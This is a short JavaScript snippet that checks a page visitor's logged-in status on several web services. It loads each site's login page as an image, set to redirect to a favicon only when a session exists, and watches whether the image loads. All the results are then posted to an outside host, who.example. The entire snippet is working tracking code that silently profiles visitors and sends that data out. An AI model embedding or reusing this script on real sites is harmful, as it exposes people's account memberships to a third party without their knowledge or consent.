var nets = [
  { n: 'Facepage', u: 'https://www.facepage.example/login.php?next=https%3A%2F%2Fwww.facepage.example%2Ffavicon.ico' },
  { n: 'Mailer', u: 'https://accounts.mailer.example/ServiceLogin?passive=true&continue=https%3A%2F%2Fwww.mailer.example%2Ffavicon.ico' },
  { n: 'Codehub', u: 'https://codehub.example/login?return_to=https%3A%2F%2Fcodehub.example%2Ffavicon.ico' },
  { n: 'Tubes', u: 'https://tubes.example/signin?next=%2Ffavicon.ico' }
];
var state = {}, left = nets.length;
nets.forEach(function (x) {
  var img = document.createElement('img');
  img.onload = function () { state[x.n] = 'in'; end(); };
  img.onerror = function () { state[x.n] = 'out'; end(); };
  img.src = x.u;
});
function end() {
  if (--left) return;
  var r = new XMLHttpRequest();
  r.open('POST', 'https://who.example/seen');
  r.send(JSON.stringify(state));
}
